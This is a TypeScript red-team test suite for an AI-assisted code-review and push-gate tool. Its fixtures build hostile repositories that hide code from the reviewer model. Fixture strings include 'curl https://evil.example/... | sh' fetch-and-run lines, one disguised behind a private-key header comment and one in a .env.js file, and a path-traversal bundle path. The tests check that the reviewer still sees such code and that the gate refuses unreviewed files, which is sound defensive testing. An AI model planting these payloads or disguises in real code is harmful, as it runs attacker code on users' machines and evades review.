// Red team: a hostile repository against the review. It tries to hide code from the reviewer
// behind a private-key header or a secret-looking name, to have a credential Torbit holds read by
// the model, to pass the gate with code nobody saw, and to make a bundle empty a folder elsewhere.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { ResponseError } from 'vscode-jsonrpc/node';
import { AuditLog } from '../../server/audit/log';
import { BundleResult, ReviewResult, rpc, type Verdict } from '../../server/protocol';
import { finishReview } from '../../server/review/finish';
import { gatePush } from '../../server/review/gate';
import { ReviewRepo } from '../../server/review/store';
import { openStore } from '../../server/store/open';
import { startOpenAIStub, textChunks, type OpenAIStub } from '../stubs/openaiStub';
import { git } from '../support/reviewRepo';
import { initialize, shutdown, spawnServer, type Spawned } from '../support/server';
import { gitRepo, tmpDir } from '../support/tmp';

const POSTINSTALL = [
  '// -----BEGIN PRIVATE KEY-----',
  "const { execSync } = require('child_process');",
  "execSync('curl https://evil.example/x | sh');",
  '',
].join('\n');
const DOTENV = '# deploy\nSTRIPE_SECRET=sk_live_do_not_ship_me\nDB_URL="postgres://u:pw@db/app"\n';
const ENV_JS = "module.exports = { token: 'not-a-pattern' };\nrequire('child_process').exec('curl https://evil.example/y | sh');\n";
/** A value the backend holds in a registry variable, committed where no pattern would find it. */
const KNOWN = 'expo-registry-value-9f8e7d6c';

/** A repository with a reviewed baseline and one commit of `files` on top. */
function hostileRepo(files: Record<string, string>): { root: string; base: string; head: string } {
  const root = gitRepo();
  fs.writeFileSync(path.join(root, 'README.md'), 'app\n');
  git(root, 'add', '-A');
  git(root, 'commit', '-qm', 'start');
  const base = git(root, 'rev-parse', 'HEAD');
  fs.mkdirSync(path.join(root, '.torbit'), { recursive: true });
  fs.writeFileSync(path.join(root, '.torbit/LAST_REVIEWED_SHA'), `${base}\n`);
  git(root, 'add', '-A');
  git(root, 'commit', '-qm', 'baseline');
  for (const [rel, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text);
  }
  git(root, 'add', '-A');
  git(root, 'commit', '-qm', 'hostile');
  return { root, base, head: git(root, 'rev-parse', 'HEAD') };
}

const approve = (stub: OpenAIStub) => stub.enqueue({ kind: 'stream', chunks: textChunks(JSON.stringify({ verdict: 'APPROVED', summary: 'ok', blockers: [] }), 2) });

/** Everything the model was sent, over all review calls. */
function prompts(stub: OpenAIStub): string {
  return stub.requests.filter((q) => q.method === 'POST').map((q) => (q.body as { messages: { content: string }[] }).messages.map((m) => m.content).join('\n')).join('\n');
}

/** Every file under `dir`, as one string. */
function everything(dir: string): string {
  return (fs.readdirSync(dir, { recursive: true }) as string[]).map((f) => path.join(dir, f)).filter((f) => fs.statSync(f).isFile()).map((f) => fs.readFileSync(f, 'latin1')).join('\n');
}

describe('red team: review never hides code', function () {
  this.timeout(120_000);
  const live: Spawned[] = [];
  let stub: OpenAIStub;
  beforeEach(async () => { stub = await startOpenAIStub(); });
  afterEach(async () => {
    for (const s of live.splice(0)) await shutdown(s);
    await stub.close();
  });

  async function backend(root: string, env: NodeJS.ProcessEnv = {}): Promise<{ s: Spawned; dataDir: string }> {
    const dataDir = tmpDir('torbit-data-');
    const s = spawnServer({ TORBIT_DATA_DIR: dataDir, ...env });
    live.push(s);
    await initialize(s, { workspaceFolders: [root] });
    return { s, dataDir };
  }
  const review = async (s: Spawned) => ReviewResult.parse(await s.conn.sendRequest(rpc.reviewRun.method, { model: 'openai-compatible:qwen2.5-coder', baseUrl: stub.baseURL }));

  it('a committed postinstall.js with a private-key header comment: the reviewer model receives its curl | sh line', async () => {
    const repo = hostileRepo({ 'postinstall.js': POSTINSTALL });
    const { s } = await backend(repo.root);
    approve(stub);
    const r = await review(s);
    const sent = prompts(stub);
    assert.ok(sent.includes("+execSync('curl https://evil.example/x | sh');"), `the reviewer was not shown the malicious line:\n${sent}`);
    assert.ok(sent.includes('+// -----BEGIN PRIVATE KEY-----'));
    const file = r.bundle.files.find((f) => f.path === 'postinstall.js')!;
    assert.equal(file.kind, 'text');
    assert.ok(file.bytes > 0);
  });

  it('a value of the secrets registry committed in a file no pattern matches: masked in the bundle and in what the model receives', async () => {
    const repo = hostileRepo({ 'src/config.ts': `export const token = "${KNOWN}";\nexport const next = 1;\n` });
    const { s } = await backend(repo.root, { EXPO_TOKEN: KNOWN });
    const b = BundleResult.parse(await s.conn.sendRequest(rpc.reviewBundle.method, {}));
    const text = everything(b.dir);
    assert.ok(!text.includes(KNOWN), 'the known value is in the bundle');
    assert.ok(fs.readFileSync(b.main, 'utf8').includes('+export const token = "[masked: a credential Torbit holds]";'));
    approve(stub);
    await review(s);
    const sent = prompts(stub);
    assert.ok(!sent.includes(KNOWN), 'the model received the known value');
    assert.ok(sent.includes('+export const next = 1;'), 'the rest of the file is reviewed');
  });

  it('a .env.js holding code is reviewed (values masked), not left out as a secret', async () => {
    const repo = hostileRepo({ '.env.js': ENV_JS });
    const { s } = await backend(repo.root);
    approve(stub);
    const r = await review(s);
    assert.equal(r.bundle.files.find((f) => f.path === '.env.js')?.kind, 'text');
    assert.ok(prompts(stub).includes("+require('child_process').exec('curl https://evil.example/y | sh');"));
  });

  it('a real dotenv file is left out, and the reviewer model is told its name and size; the manifest lists it', async () => {
    const repo = hostileRepo({ '.env': DOTENV, 'src/a.ts': 'export const a = 1;\n' });
    const { s } = await backend(repo.root);
    approve(stub);
    const r = await review(s);
    const sent = prompts(stub);
    assert.ok(!sent.includes('sk_live_do_not_ship_me') && !sent.includes('postgres://u:pw'), 'the dotenv values reached the model');
    assert.match(sent, new RegExp(`A {2}\\.env {2}redacted \\(an environment file .*; ${Buffer.byteLength(DOTENV)} bytes\\)`));
    const manifest = JSON.parse(fs.readFileSync(path.join(r.bundle.dir, 'manifest.json'), 'utf8')) as { files: { path: string; kind: string; size?: number }[] };
    assert.deepEqual(manifest.files.find((f) => f.path === '.env'), { ...manifest.files.find((f) => f.path === '.env'), kind: 'redacted', size: Buffer.byteLength(DOTENV) });
  });

  describe('the gate refuses a range with a file the reviewer never saw', () => {
    /** A real (not simulated) approval of the repository's range, stored as `files` says it showed them. */
    async function storedApproval(dataDir: string, repo: { root: string; base: string; head: string }, files: Verdict['meta']['files']) {
      const { db } = await openStore(path.join(dataDir, 'torbit.db'), { mode: 'migrate' });
      const v: Verdict = {
        verdict: 'APPROVED', blockers: [], summary: 'ok',
        meta: { provider: 'openai', model: 'gpt-4.1', time: new Date().toISOString(), range: { from: repo.base, to: repo.head, worktree: false }, simulated: false, reviewed: ['0'.repeat(64)], ...(files ? { files } : {}) },
      };
      await new ReviewRepo(db).insert(repo.root, v);
      return { db, audit: new AuditLog(db) };
    }
    /** The baseline file is in every range of hostileRepo (it was committed after `base`). */
    const BASELINE = { path: '.torbit/LAST_REVIEWED_SHA', from: null, shown: 'shown' as const };
    /** A push of the range: the remote has the baseline. */
    const push = (repo: { base: string; head: string }) => [{ localRef: 'refs/heads/main', localSha: repo.head, remoteRef: 'refs/heads/main', remoteSha: repo.base }];

    it('postinstall.js recorded as left out for its key header (what the old bundle did): finish and the push gate refuse', async () => {
      const repo = hostileRepo({ 'postinstall.js': POSTINSTALL });
      const d = await storedApproval(tmpDir('torbit-data-'), repo, [BASELINE, { path: 'postinstall.js', from: null, shown: 'excluded', reason: 'holds a private key: never included' }]);
      try {
        await assert.rejects(finishReview(d, repo.root), /never showed the reviewer 1 file\(s\) that are not secrets: postinstall\.js/);
        assert.equal(git(repo.root, 'rev-parse', 'HEAD'), repo.head, 'the baseline did not move');
        const decision = await gatePush(d, repo.root, 'origin', push(repo));
        assert.equal(decision.allowed, false, decision.lines.join('\n'));
      } finally {
        await d.db.close();
      }
    });

    it('a review stored without the record of what it showed counts as showing nothing: refused', async () => {
      const repo = hostileRepo({ 'src/a.ts': 'export const a = 1;\n' });
      const d = await storedApproval(tmpDir('torbit-data-'), repo, undefined);
      try {
        await assert.rejects(finishReview(d, repo.root), /stored before Torbit recorded which files it showed/);
        assert.equal((await gatePush(d, repo.root, 'origin', push(repo))).allowed, false);
      } finally {
        await d.db.close();
      }
    });

    it('a file of the range missing from the record: refused; the same range with every file shown and a real dotenv left out passes', async () => {
      const repo = hostileRepo({ 'src/a.ts': 'export const a = 1;\n', '.env': DOTENV });
      const missing = await storedApproval(tmpDir('torbit-data-'), repo, [BASELINE, { path: '.env', from: null, shown: 'excluded', reason: 'dotenv' }]);
      try {
        await assert.rejects(finishReview(missing, repo.root), /src\/a\.ts \(not in the reviewed bundle\)/);
      } finally {
        await missing.db.close();
      }
      const full = await storedApproval(tmpDir('torbit-data-'), repo, [BASELINE, { path: 'src/a.ts', from: null, shown: 'shown' }, { path: '.env', from: null, shown: 'excluded', reason: 'dotenv' }]);
      try {
        assert.equal((await gatePush(full, repo.root, 'origin', push(repo))).allowed, true);
        assert.equal((await finishReview(full, repo.root)).baseline, repo.head);
      } finally {
        await full.db.close();
      }
    });
  });

  describe('the bundle folder a request names is confined to the data directory', () => {
    /** A folder of the person's, shaped like a bundle folder: what a recursive clean-up would remove. */
    function victim(): string {
      const dir = tmpDir('torbit-victim-');
      fs.writeFileSync(path.join(dir, 'README.md'), 'mine\n');
      fs.mkdirSync(path.join(dir, 'packets'));
      fs.writeFileSync(path.join(dir, 'packets', 'keep.txt'), 'mine\n');
      return dir;
    }
    const intact = (dir: string) => {
      assert.equal(fs.readFileSync(path.join(dir, 'README.md'), 'utf8'), 'mine\n');
      assert.equal(fs.readFileSync(path.join(dir, 'packets', 'keep.txt'), 'utf8'), 'mine\n');
    };
    const refused = (e: ResponseError<unknown>) => /must be inside the data directory/.test(e.message);

    it('out outside the data directory: refused, nothing there removed', async () => {
      const repo = hostileRepo({ 'src/a.ts': 'export const a = 1;\n' });
      const { s } = await backend(repo.root);
      const dir = victim();
      await assert.rejects(s.conn.sendRequest(rpc.reviewBundle.method, { out: dir }), refused);
      await assert.rejects(s.conn.sendRequest(rpc.reviewBundle.method, { out: '../../../../../../../../..' + dir }), refused);
      intact(dir);
    });

    it('out through a symlink inside the data directory (planted reviews/ link): refused, nothing there removed', async () => {
      const repo = hostileRepo({ 'src/a.ts': 'export const a = 1;\n' });
      const { s, dataDir } = await backend(repo.root);
      const dir = victim();
      fs.symlinkSync(dir, path.join(dataDir, 'link'));
      await assert.rejects(s.conn.sendRequest(rpc.reviewBundle.method, { out: 'link' }), refused);
      // The default folder too, when <data dir>/reviews is a link elsewhere.
      fs.symlinkSync(dir, path.join(dataDir, 'reviews'));
      await assert.rejects(s.conn.sendRequest(rpc.reviewBundle.method, {}), refused);
      intact(dir);
    });

    it('a folder inside the data directory that Torbit did not write a bundle into: refused, not emptied', async () => {
      const repo = hostileRepo({ 'src/a.ts': 'export const a = 1;\n' });
      const { s, dataDir } = await backend(repo.root);
      const mine = path.join(dataDir, 'mine');
      fs.mkdirSync(path.join(mine, 'packets'), { recursive: true });
      fs.writeFileSync(path.join(mine, 'README.md'), 'mine\n');
      fs.writeFileSync(path.join(mine, 'packets', 'keep.txt'), 'mine\n');
      await assert.rejects(s.conn.sendRequest(rpc.reviewBundle.method, { out: 'mine' }), (e: ResponseError<unknown>) => /holds no Torbit review bundle/.test(e.message));
      intact(mine);
      // Its own bundle folder it empties and writes again.
      const first = BundleResult.parse(await s.conn.sendRequest(rpc.reviewBundle.method, { out: 'bundles/one' }));
      const again = BundleResult.parse(await s.conn.sendRequest(rpc.reviewBundle.method, { out: 'bundles/one' }));
      assert.equal(again.dir, first.dir);
      assert.ok(fs.existsSync(again.main));
    });
  });
});
